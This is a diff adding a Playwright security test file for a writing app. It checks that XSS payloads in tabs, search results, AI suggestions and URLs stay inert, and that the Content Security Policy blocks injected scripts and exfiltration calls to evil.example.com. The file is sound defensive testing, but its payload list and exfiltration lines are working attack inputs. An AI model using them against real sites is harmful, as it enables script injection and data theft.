@@ -1,0 +1,257 @@
+import { randomUUID } from 'node:crypto'
+import type { Page } from '@playwright/test'
+import { area, expect, openTools, ready, saved, strip, test, tool } from '../support/e2e-writing.ts'
+import { writePart } from './report.ts'
+
+// Words from strangers, in every place of the real product that shows words, in a real browser: none of them ever runs,
+// asks for anything, or becomes a link to anything but a page.
+
+const counted = { 'places with hostile words': 0, 'things the policy stopped': 0, 'scripts that ran': 0 }
+
+const payloads = [
+  '<img src="https://evil.example.com/x" onerror="owned=1">',
+  '"><svg/onload=owned=1>',
+  '<script>owned=1</script>',
+  '</textarea></title></style><iframe srcdoc="<script>parent.owned=1</script>">',
+  '[link](javascript:owned=1) javascript:owned=1',
+  '{{constructor.constructor("owned=1")()}}',
+  '\u202e<style>*{display:none}</style>\u2066',
+]
+const hostile = payloads.join(' ')
+
+declare global {
+  var owned: number | undefined
+}
+
+/** What got out to the stranger's server. */
+async function watchForLeaks(page: Page): Promise<string[]> {
+  const leaks: string[] = []
+  await page.context().route(/evil\.example\.com/, async (route) => {
+    leaks.push(route.request().url())
+    await route.abort()
+  })
+  page.on('dialog', (dialog) => leaks.push(dialog.message()))
+  return leaks
+}
+
+async function isUntouched(page: Page, leaks: string[]): Promise<void> {
+  expect(await page.evaluate(() => globalThis.owned)).toBeUndefined()
+  expect(leaks).toEqual([])
+  const odd =
+    'script:not([src]), iframe, object, embed, base, img[src*="evil"], a[href^="javascript" i], [onerror], [onload]'
+  await expect(page.locator(odd)).toHaveCount(0)
+  counted['places with hostile words']++
+}
+
+test('hostile words stay words, wherever they are shown', async ({ page, email, server, outbox }) => {
+  const leaks = await watchForLeaks(page)
+
+  await test.step('in tabs, their titles and the history', async () => {
+    await addHostileTabs(server.origin, email, () => outbox.codeFor(email))
+    await page.reload()
+    await ready(page)
+    for (const tab of await strip(page).getByRole('tab').all()) {
+      await tab.click()
+      await isUntouched(page, leaks)
+    }
+    await expect(area(page)).toContainText('<script>owned=1</script>')
+    await openTools(page)
+    await page.getByRole('button', { name: /^Writing History/ }).click()
+    const history = page.getByRole('dialog', { name: 'Writing History' })
+    await expect(history.getByText('<img src=').first()).toBeVisible()
+    await history.getByRole('searchbox').fill('<script>')
+    await expect(history.getByRole('listitem').first()).toContainText('<script>')
+    await isUntouched(page, leaks)
+    await page.keyboard.press('Escape')
+  })
+
+  await test.step('in what search engines answer', async () => {
+    const link = { title: hostile, link: 'https://example.org/' }
+    const hit = { ...link, displayed_link: hostile, snippet: hostile, rank: 1, extended_sitelinks: [link] }
+    const trap = { ...hit, title: 'A trap', link: 'javascript:owned=1', rank: 2 }
+    await page.route('**/api/search', (route) =>
+      route.fulfill({
+        json: {
+          engine: { engine: 'wikipedia', name: 'Wikipedia' },
+          search_information: { total_results: 2 },
+          menu_items: [link],
+          organic_results: [hit, trap],
+          peopleAlsoAskedFor: [{ question: hostile, answers: [hostile], link: 'javascript:owned=1' }],
+          ads: [link],
+          pagination: {},
+        },
+      }),
+    )
+    await tool(page, 'Open Google Search').click()
+    const search = page.getByRole('dialog', { name: 'Wikipedia' })
+    await search.getByPlaceholder('Search Wikipedia...').fill(payloads[0] ?? '')
+    await page.keyboard.press('Enter')
+    await expect(search.getByText('<script>owned=1</script>').first()).toBeVisible()
+    await isUntouched(page, leaks)
+    await page.keyboard.press('Escape')
+  })
+
+  await test.step('in what models answer', async () => {
+    const issue = {
+      type: 'clarity',
+      text: 'My',
+      startIndex: 0,
+      endIndex: 2,
+      suggestion: hostile,
+      reason: hostile,
+    }
+    const engine = { engine: 'model', name: hostile }
+    await page.route('**/api/ai/analysis', (route) =>
+      route.fulfill({
+        json: {
+          success: true,
+          engine,
+          analysis: {
+            overallFeedback: hostile,
+            readabilityScore: 5,
+            issuesFound: [issue],
+            scientificInsight: hostile,
+            generalImprovement: hostile,
+          },
+        },
+      }),
+    )
+    await tool(page, 'Get writing suggestions').click()
+    const suggestions = page.getByRole('dialog', { name: 'Writing Suggestions' })
+    await expect(suggestions.getByText('<script>owned=1</script>').first()).toBeVisible()
+    await isUntouched(page, leaks)
+    await page.keyboard.press('Escape')
+
+    await page.route('**/api/ai/rephrasing', (route) =>
+      route.fulfill({
+        contentType: 'application/x-ndjson',
+        body: [{ type: 'start', engine }, { type: 'text', text: hostile }, { type: 'done' }]
+          .map((event) => `${JSON.stringify(event)}\n`)
+          .join(''),
+      }),
+    )
+    await openTools(page)
+    await page.getByRole('button', { name: /^Rephrase with AI/ }).click()
+    const bar = page.getByRole('toolbar', { name: /review/i })
+    await expect(bar).toBeVisible()
+    await isUntouched(page, leaks)
+    await bar.getByRole('button', { name: /^Accept/ }).click()
+    await expect(area(page)).toContainText('<script>owned=1</script>')
+    await saved(page)
+  })
+
+  await test.step('in addresses and names of files', async () => {
+    for (const path of [
+      `/%3Cscript%3Eowned=1%3C/script%3E`,
+      `/?q=${encodeURIComponent(hostile)}#/${hostile}`,
+      '/x.svg',
+    ]) {
+      const reply = await page.request.get(path)
+      expect(await reply.text()).not.toContain('owned')
+      expect(reply.headers()['x-content-type-options']).toBe('nosniff')
+    }
+    await page.goto(`/#/${encodeURIComponent(hostile)}`)
+    await expect(page.locator('#root > *').first()).toBeVisible()
+    await isUntouched(page, leaks)
+  })
+})
+
+test('the policy stops what gets onto the page all the same', async ({ page, complaints }) => {
+  complaints.allow(
+    /Content Security Policy|Content-Security-Policy|violates|Refused to|Failed to (load|fetch)|Framing/i,
+  )
+  complaints.allow(/third party: https:\/\/evil\.example\.com/)
+  const leaks = await watchForLeaks(page)
+
+  const stopped = await page.evaluate(async () => {
+    const violated = new Set<string>()
+    document.addEventListener('securitypolicyviolation', (event) => violated.add(event.effectiveDirective))
+    const element = (html: string) => document.body.insertAdjacentHTML('beforeend', html)
+    const script = (change: (script: HTMLScriptElement) => void) => {
+      const made = document.createElement('script')
+      change(made)
+      document.body.append(made)
+    }
+    const evil = 'https://evil.example.com'
+    const attempts: (() => void)[] = [
+      () => script((made) => Object.assign(made, { textContent: 'owned = 1' })),
+      () => script((made) => Object.assign(made, { src: `${evil}/x.js` })),
+      () => script((made) => Object.assign(made, { src: 'data:text/javascript,owned=1' })),
+      () => element('<img src="/none.png" onerror="owned=1">'),
+      () => element(`<img src="${evil}/x.png">`),
+      () => element(`<style>body { color: red }</style><p style="color: red"></p>`),
+      () => element(`<link rel="stylesheet" href="${evil}/x.css">`),
+      () =>
+        element(`<iframe src="${evil}/"></iframe><iframe srcdoc="<script>parent.owned=1</script>"></iframe>`),
+      () => element(`<object data="${evil}/x"></object><video src="${evil}/x.mp4"></video>`),
+      () =>
+        element(`<base href="${evil}/"><iframe name="sink"></iframe>
+        <form id="out" target="sink" action="${evil}/"></form>`),
+      () => (document.getElementById('out') as HTMLFormElement).submit(),
+      () => void fetch(`${evil}/?q=words`).catch(() => {}),
+      () => void navigator.sendBeacon(`${evil}/`, 'words'),
+      () => void new WebSocket('wss://evil.example.com/'),
+      () => void new Worker(URL.createObjectURL(new Blob(['self.owned=1']))),
+      () => void new Function('owned = 1')(),
+      // biome-ignore lint/security/noGlobalEval: whether it runs is the question.
+      () => void globalThis.eval('owned = 1'),
+    ]
+    for (const attempt of attempts) {
+      // Of its own turn: what a debugger runs itself may be let through.
+      await new Promise<void>((done) => {
+        setTimeout(() => {
+          try {
+            attempt()
+          } catch {
+            // Some are refused where they stand.
+          }
+          requestAnimationFrame(() => done())
+        })
+      })
+    }
+    return { attempts: attempts.length, violated: [...violated] }
+  })
+
+  await expect(page.locator('#root > *').first()).toBeVisible()
+  expect(await page.evaluate(() => globalThis.owned)).toBeUndefined()
+  expect(leaks).toEqual([])
+  for (const directive of [
+    'script-src-elem',
+    'script-src-attr',
+    'script-src',
+    'style-src-elem',
+    'style-src-attr',
+    'img-src',
+    'connect-src',
+    'frame-src',
+    'base-uri',
+    'form-action',
+    'worker-src',
+  ]) {
+    expect(stopped.violated).toContain(directive)
+  }
+  counted['things the policy stopped'] = stopped.attempts
+})
+
+test.afterAll(() => writePart('hostile words in a browser', counted))
+
+/** As another program of the same writer would: titles and texts that the page itself might refuse to type. */
+async function addHostileTabs(origin: string, email: string, nextCode: () => Promise<string>): Promise<void> {
+  const call = async (method: string, path: string, body: unknown, token = '') => {
+    const headers = { 'content-type': 'application/json', authorization: `Bearer ${token}` }
+    const reply = await fetch(origin + path, { method, headers, body: JSON.stringify(body) })
+    if (!reply.ok) throw new Error(`${path}: ${reply.status}`)
+    return (await reply.json()) as { access_token: string }
+  }
+  await call('POST', '/auth/v1/otp', { email })
+  const { access_token } = await call('POST', '/auth/v1/verify', {
+    email,
+    token: await nextCode(),
+    type: 'email',
+  })
+  const writing_date = new Date().toLocaleDateString('sv')
+  for (const payload of [...payloads, `My ${hostile}`]) {
+    const tab = { title: payload.slice(0, 200), content: payload, writing_date }
+    await call('PUT', `/api/tabs/${randomUUID()}`, tab, access_token)
+  }
+}
